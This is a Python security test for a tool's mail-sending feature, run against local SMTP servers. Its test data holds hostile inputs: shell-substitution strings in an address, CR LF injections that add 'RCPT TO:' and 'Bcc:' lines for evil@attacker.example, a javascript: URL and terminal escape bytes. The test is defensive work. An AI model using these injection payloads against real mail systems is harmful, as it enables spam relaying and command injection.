#!/usr/bin/env python3
"""A library from a stranger cannot make `digest --send` leak a secret or
write outside it (issue 20, holes 4, 5, 6 and the SMTP reply of 9), against
real SMTP servers (python3-aiosmtpd) on 127.0.0.1:

  - paperbook.yml naming its own server, password_env: GITHUB_TOKEN, a user
    and a CA: the library's server gets nothing (no AUTH, no message), the
    message goes to the user's server (PAPERBOOK_SMTP), each setting is a
    warning at its line, the token never leaves;
  - without a server of the user's, --send stops (exit 2) and nothing is
    sent to the library's;
  - smtp+insecure:// to a host that is not this machine is refused before
    connecting; to localhost it works;
  - build/mail-sent.log committed as a link to a file outside the library
    (~/.bashrc) is not appended to; the Message-ID's domain is a plain host
    name whatever from: holds ($( ), backticks, ';', braces);
  - --mail X.eml naming a FIFO leaves the FIFO in place;
  - control bytes and bytes >= 0x80 in the server's reply reach the
    terminal escaped;
  - CR LF in a quoted local part of from: or to: is an error: no header
    or SMTP command of the library's (RCPT TO:, Bcc:) is written or sent;
  - a booklet_url the link policy refuses (javascript:, a bidi control) is
    a warning and is left out of the mail; a web address is kept.

usage: mail_safety_test.py PAPERBOOK SAMPLE_LIBRARY WORKDIR"""
import asyncio
import logging
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import threading
import warnings

warnings.filterwarnings("ignore")
logging.disable(logging.CRITICAL)
try:
    from aiosmtpd.smtp import SMTP, AuthResult
except ImportError:
    print("mail_safety_test: python3-aiosmtpd is not installed; skipped")
    sys.exit(77)

PB, LIB, WORK = sys.argv[1], sys.argv[2], sys.argv[3]
TOKEN = "ghp_SECRETtoken1234567890"
failures = []


def check(cond, what):
    print(("ok   " if cond else "FAIL ") + what)
    if not cond:
        failures.append(what)


class Recorder:
    def __init__(self):
        self.envelopes, self.logins, self.reply = [], [], None

    async def handle_DATA(self, server, session, envelope):
        if self.reply:
            return self.reply
        self.envelopes.append(envelope)
        return "250 2.0.0 OK"


class Server:
    def __init__(self, auth=False):
        self.handler = Recorder()
        self.loop = asyncio.new_event_loop()
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        sock.listen(8)
        self.port = sock.getsockname()[1]
        h = self.handler

        def authenticator(server, session, envelope, mechanism, auth_data):
            h.logins.append((auth_data.login, auth_data.password))
            return AuthResult(success=True, handled=False)

        def factory():
            return SMTP(h, hostname="test.invalid", decode_data=False,
                        authenticator=authenticator if auth else None, auth_required=auth,
                        auth_require_tls=False)
        ready = threading.Event()

        def run():
            asyncio.set_event_loop(self.loop)
            self.server = self.loop.run_until_complete(self.loop.create_server(factory, sock=sock))
            ready.set()
            self.loop.run_forever()
        threading.Thread(target=run, daemon=True).start()
        ready.wait(10)

    def stop(self):
        def close():
            self.server.close()
            self.loop.stop()
        self.loop.call_soon_threadsafe(close)


def library(name, yml):
    lib = os.path.join(WORK, name)
    shutil.rmtree(lib, ignore_errors=True)
    for d in ("papers", "Images"):
        shutil.copytree(os.path.join(LIB, d), os.path.join(lib, d))
    with open(os.path.join(lib, "paperbook.yml"), "w", encoding="utf-8") as f:
        f.write(yml)
    return lib


def run(args, env_extra=None):
    env = {k: v for k, v in os.environ.items() if not k.startswith("PAPERBOOK_SMTP")}
    env["HOME"] = os.path.join(WORK, "home-empty")
    os.makedirs(env["HOME"], exist_ok=True)
    env["GITHUB_TOKEN"] = TOKEN
    env.update(env_extra or {})
    return subprocess.run([PB, "digest", "--no-cache", "--since", "2024-12-01", "--until",
                           "2024-12-31"] + args, env=env, capture_output=True, timeout=120)


def text(p):
    return (p.stdout + p.stderr).decode("utf-8", "replace")


def main():
    os.makedirs(WORK, exist_ok=True)
    evil, mine = Server(auth=True), Server()
    yml = ("mail:\n  from: g@example.org\n  to: [a@example.org]\n"
           f"  server: smtp+insecure://127.0.0.1:{evil.port}\n"
           "  password_env: GITHUB_TOKEN\n  user: victim\n  ca_file: /etc/hostname\n")
    lib = library("lib-secret", yml)
    # 1. The user's server gets the message; the library's gets nothing.
    p = run(["--send", lib], {"PAPERBOOK_SMTP": f"smtp+insecure://127.0.0.1:{mine.port}"})
    out = text(p)
    check(p.returncode == 0 and len(mine.handler.envelopes) == 1,
          f"sent to the user's server (exit {p.returncode}: {out.strip()[-300:]!r})")
    check(not evil.handler.logins and not evil.handler.envelopes,
          f"the library's server got no login and no message ({evil.handler.logins})")
    for key, line in (("server", 4), ("password_env", 5), ("user", 6), ("ca_file", 7)):
        check(re.search(r"paperbook\.yml:%d: warning: mail '%s' is not read from a library"
                        % (line, key), out) is not None, f"warning for {key}: at line {line}")
    check(TOKEN not in out, "the token is not printed")
    # 2. No server of the user's: --send stops, the library's server untouched.
    p = run(["--send", lib])
    check(p.returncode == 2 and "--send needs a server" in text(p) and
          not evil.handler.logins and not evil.handler.envelopes,
          f"no user server: exit 2, nothing sent ({text(p).strip()[-200:]!r})")
    # 3. smtp+insecure:// only to this machine.
    for host in ("example.org", "10.1.2.3", "[2001:db8::1]", "127.0.0.1.nip.io"):
        p = run(["--send", "--smtp", f"smtp+insecure://{host}:25", lib])
        check(p.returncode == 1 and "only for a relay on this machine" in text(p),
              f"smtp+insecure://{host} refused ({text(p).strip()[-160:]!r})")
    n = len(mine.handler.envelopes)
    p = run(["--send", "--smtp", f"smtp+insecure://localhost:{mine.port}", lib])
    check(p.returncode == 0 and len(mine.handler.envelopes) == n + 1,
          f"smtp+insecure://localhost accepted ({text(p).strip()[-200:]!r})")
    # 4. mail-sent.log linked out of the library; a hostile from: domain.
    lib = library("lib-log", "mail:\n  from: 'x <g@ex$(touch${IFS}pwn);`id`{a}.org>'\n"
                             "  to: [a@example.org]\n")
    os.makedirs(os.path.join(lib, "build"))
    bashrc = os.path.join(WORK, "bashrc")
    with open(bashrc, "w") as f:
        f.write("# the user's shell\n")
    os.symlink(bashrc, os.path.join(lib, "build", "mail-sent.log"))
    p = run(["--send", "--smtp", f"smtp+insecure://127.0.0.1:{mine.port}", lib])
    with open(bashrc) as f:
        kept = f.read()
    check(kept == "# the user's shell\n",
          f"a linked mail-sent.log outside the library is not appended to ({kept[-120:]!r})")
    check(p.returncode == 1 and "mail-sent.log: error:" in text(p),
          f"... and that is an error (exit {p.returncode}: {text(p).strip()[-300:]!r})")
    eml = os.path.join(lib, "build", "digest-2024-12-01.eml")
    if os.path.exists(eml):
        with open(eml, "rb") as f:
            m = re.search(rb"^Message-Id: <([^>]*)>", f.read(), re.M | re.I)
        mid = m.group(1).decode() if m else ""
        check(re.fullmatch(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+", mid) is not None,
              f"Message-ID is a plain id@host ({mid!r})")
    else:
        check(False, "the .eml was written")
    # 5. --mail naming a FIFO.
    fifo = os.path.join(WORK, "fifo.eml")
    if os.path.exists(fifo):
        os.remove(fifo)
    os.mkfifo(fifo)
    p = run(["--mail", fifo, "--from", "g@example.org", "-o", os.path.join(WORK, "f.pdf"),
             library("lib-fifo", "")])
    check(stat.S_ISFIFO(os.lstat(fifo).st_mode) and p.returncode == 1 and
          "is a FIFO, not a regular file" in text(p),
          f"--mail FIFO: refused, the FIFO kept (exit {p.returncode}: {text(p).strip()[-200:]!r})")
    # 6. The server's reply reaches the terminal escaped: a raw server that
    #    greets with escape sequences, a bell and UTF-8.
    raw = socket.socket()
    raw.bind(("127.0.0.1", 0))
    raw.listen(4)

    def greet():
        try:
            while True:
                c, _ = raw.accept()
                c.sendall(b"554 5.0.0 \x1b[31mred\x1b[0m caf\xc3\xa9 \x07bell\r\n")
                c.close()
        except OSError:
            pass
    threading.Thread(target=greet, daemon=True).start()
    p = run(["--send", "--smtp", f"smtp+insecure://127.0.0.1:{raw.getsockname()[1]}", "--from",
             "g@example.org", "--to", "a@example.org", library("lib-reply", "")])
    raw.close()
    err = p.stderr
    said = err.split(b"server said:")[-1] if b"server said:" in err else b""
    check(p.returncode == 1 and b"\x1b" not in err and b"\x07" not in err and said and
          not any(b >= 0x80 for b in said) and b"\\x1B[31mred" in err and
          b"caf\\xC3\\xA9" in err, f"server reply escaped ({err[-200:]!r})")
    # 7. CR LF in a quoted local part of from: or to: (GMime keeps them):
    #    written into the header or the envelope they would start a header
    #    or an SMTP command of the library's (RCPT TO: another recipient).
    for key, addr in (("from", '"a\\r\\nRCPT TO:<evil@attacker.example>"@example.org'),
                      ("to", '"b\\r\\nBcc: evil@attacker.example\\r\\n"@example.org')):
        other = "to: [a@example.org]" if key == "from" else "from: g@example.org"
        quoted = addr.replace('"', '\\"')
        lib = library("lib-crlf-" + key, f"mail:\n  {other}\n  {key}: \"{quoted}\"\n")
        n = len(mine.handler.envelopes)
        eml = os.path.join(WORK, f"crlf-{key}.eml")
        if os.path.exists(eml):
            os.remove(eml)
        p = run(["--send", "--smtp", f"smtp+insecure://127.0.0.1:{mine.port}", "--mail", eml,
                 lib])
        sent = mine.handler.envelopes[n:]
        rcpts = [r for e in sent for r in e.rcpt_tos]
        head = b""
        if os.path.exists(eml):
            with open(eml, "rb") as f:
                head = f.read().split(b"\r\n\r\n")[0]
        check(p.returncode != 0 and not sent and "evil@attacker.example" not in str(rcpts) and
              not re.search(rb"^(RCPT|Bcc)", head, re.M) and
              "line break or control character" in text(p),
              f"CR LF in {key}: refused, nothing sent (exit {p.returncode}, recipients {rcpts}, "
              f"{text(p).strip()[-200:]!r})")
    # 8. A booklet_url of the library's that the link policy refuses is said
    #    and left out of the mail; a web one is kept.
    for url, marker, kept in (("javascript:alert(1)", "javascript", False),
                              ("https://example.org/\\u202eboo.pdf", "boo.pdf", False),
                              ("https://example.org/booklet.pdf", "booklet.pdf", True)):
        eml = os.path.join(WORK, "booklet.eml")
        if os.path.exists(eml):
            os.remove(eml)
        p = run(["--mail", eml, "-o", os.path.join(WORK, "b.pdf"),
                 library("lib-booklet", "mail:\n  from: g@example.org\n  to: [a@example.org]\n"
                         f"  booklet_url: \"{url}\"\n")])
        body = open(eml, "rb").read().decode("utf-8", "replace") if os.path.exists(eml) else ""
        said = "booklet_url" in text(p) and "link policy" in text(p)
        ok = (marker in body and not said) if kept else (bool(body) and said and marker not in body)
        check(ok, f"booklet_url {url!r}: {'kept' if kept else 'said and left out'} "
                  f"(exit {p.returncode}, {text(p).strip()[-160:]!r})")
    evil.stop()
    mine.stop()
    if failures:
        print(f"mail_safety_test: {len(failures)} failure(s)")
        return 1
    print("mail_safety_test: all passed")
    return 0


sys.exit(main())
